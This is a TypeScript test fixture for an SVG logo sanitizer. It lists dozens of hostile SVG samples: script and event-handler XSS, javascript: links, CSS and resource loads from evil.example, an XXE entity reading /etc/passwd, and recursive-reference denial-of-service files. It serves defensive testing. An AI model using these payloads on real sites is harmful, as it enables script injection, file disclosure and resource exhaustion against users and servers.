// SVG files that run, ask for something or overwhelm where a page shows them as they are.

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}</svg>`;

/** Each with what tells that it got through: no cleaned file holds it. */
export const SVG_ATTACKS: readonly (readonly [svg: string, trace: RegExp])[] = [
  [svg('<script>alert(1)</script>'), /alert|script/],
  [svg('<script href="https://evil.example/x.js"/>'), /evil|script/],
  [svg('<script xlink:href="data:text/javascript,alert(1)"/>'), /alert|script/],
  [svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'), /alert/],
  [svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'), /alert/],
  [svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), /alert/],
  [svg('<![CDATA[<script>alert(1)</script>]]>'), /<script/],
  [svg('', 'onload="alert(1)"'), /alert|onload/],
  [svg('<rect onclick="alert(1)" width="9" height="9"/>'), /alert|onclick/],
  [svg('<rect ONMOUSEOVER="alert(1)"/>'), /alert/],
  [svg('<g onfocusin="alert(1)" tabindex="0"/>'), /alert/],
  [svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'), /alert|javascript/],
  [svg('<a xlink:href="java&#x09;script:alert(1)"><text>x</text></a>'), /alert/],
  [svg('<a href="https://evil.example/"><text>x</text></a>'), /evil/],
  [svg('<image href="https://evil.example/x.png"/>'), /evil|image/],
  [svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'), /alert/],
  [svg('<use href="https://evil.example/x.svg#a"/>'), /evil/],
  [svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/>'), /data:/],
  [
    svg(
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
    ),
    /evil|iframe|foreign/,
  ],
  [
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
    /alert/,
  ],
  [svg('<animate attributeName="href" values="javascript:alert(1)"/>'), /alert|animate/],
  [svg('<set attributeName="onload" to="alert(1)"/>'), /alert|<set/],
  [svg('<animateTransform attributeName="transform" onbegin="alert(1)"/>'), /alert|animate/],
  [svg('<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>'), /alert/],
  [svg('<style>@import "https://evil.example/x.css";</style>'), /evil|import/],
  [svg('<style>rect{fill:url(https://evil.example/x.svg#a)}</style>'), /evil/],
  [svg('<style>rect{fill:u\\72l(https://evil.example/)}</style>'), /evil/],
  [svg('<style>rect{fill:u<g/>rl(https://evil.example/)}</style>'), /evil/],
  [svg('<style><![CDATA[rect{fill:url(]]>https://evil.example/)}</style>'), /evil/],
  [svg('<style>rect{background:image-set("https://evil.example/" 1x)}</style>'), /evil/],
  [svg('<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>'), /evil/],
  [svg('<style>/*</style><script>alert(1)</script><style>*/</style>'), /alert/],
  [svg('<style>rect{fill:/**/url(/**/"https://evil.example/")}</style>'), /evil/],
  [svg('<rect style="fill:url(https://evil.example/#a)"/>'), /evil/],
  [svg('<rect style="fill:url(&quot;https://evil.example/#a&quot;)"/>'), /evil/],
  [svg('<rect fill="url(https://evil.example/#a)"/>'), /evil/],
  [svg('<rect filter="url(https://evil.example/#a)"/>'), /evil/],
  [svg('<rect mask="URL( &apos;//evil.example/#a&apos; )"/>'), /evil/],
  [svg('<rect style="behavior:url(#default#time2)" xml:base="https://evil.example/"/>'), /evil|behavior/],
  [svg('<rect id="&quot; onload=&quot;alert(1)"/>'), /" onload="/],
  [svg('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'), /<script/],
  [svg('<text>]]&gt;&lt;/svg&gt;&lt;img src=x onerror=alert(1)&gt;</text>'), /<img/],
  [svg('<title><script>alert(1)</script></title>'), /alert/],
  [svg('<desc>--&gt;&lt;script&gt;alert(1)&lt;/script&gt;</desc>'), /alert/],
  [svg('<metadata><script>alert(1)</script></metadata>'), /alert/],
  [`<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg('')}`, /evil/],
  [`<!-- <script>alert(1)</script> -->${svg('<!--><script>alert(1)</script>-->')}`, /alert/],
  [svg('<listener event="load" handler="#h" xmlns="http://www.w3.org/2001/xml-events"/>'), /listener/],
  [svg('<discard begin="0s"/><mpath href="https://evil.example/"/>'), /evil|discard/],
  [svg('<filter id="f"><feImage href="https://evil.example/"/></filter>'), /evil|feImage/],
  [svg('<iframe src="https://evil.example/"/><embed src="https://evil.example/"/>'), /evil/],
  [svg('<video><source onerror="alert(1)"/></video>'), /alert/],
];

/** Files that are refused, each with what is said of it. */
export const REFUSED_SVGS: readonly (readonly [svg: string, kind: string])[] = [
  [
    '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    'svg-declares',
  ],
  [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    'svg-declares',
  ],
  [svg('&unknown;'), 'broken-svg'],
  [svg('<rect'), 'broken-svg'],
  [svg('<g>'), 'broken-svg'],
  [svg('<rect x="1" x="2"/>'), 'broken-svg'],
  [svg('<rect onload=alert(1) />'), 'broken-svg'],
  [svg('<x:rect/>'), 'broken-svg'],
  [`${svg('')}<script>alert(1)</script>`, 'broken-svg'],
  ['<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 'no-logo'],
  ['<svg/>', 'no-logo'],
  [svg('<g>'.repeat(150) + '</g>'.repeat(150)), 'svg-too-deep'],
  [svg('<g id="a"><use href="#a"/></g>'), 'svg-too-deep'],
  [svg(doubled((id, of) => `<g id="${id}">${`<use href="#${of}"/>`.repeat(10)}</g>`)), 'svg-too-deep'],
  [
    svg(doubled((id, of) => `<pattern id="${id}">${`<rect fill="url(#${of})"/>`.repeat(10)}</pattern>`)),
    'svg-too-deep',
  ],
  [
    svg(
      `<style>${'abcdefg'.replace(/./g, (id) => `.${id}{fill:url(#${id})}`)}</style>${doubled(
        (id, of) => `<pattern id="${id}">${`<rect class="${of}"/>`.repeat(10)}</pattern>`,
      )}<rect class="a"/>`,
    ),
    'svg-too-deep',
  ],
  ['<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', 'logo-without-size'],
  ['<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><rect/></svg>', 'logo-without-size'],
  ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"><rect/></svg>', 'logo-without-size'],
];

/** Things a to g, each of which uses the next one. */
function doubled(one: (id: string, of: string) => string): string {
  return (
    'abcdef'.replace(/./g, (id) => one(id, String.fromCharCode(id.charCodeAt(0) + 1))) +
    '<g id="g"><rect/></g>'
  );
}
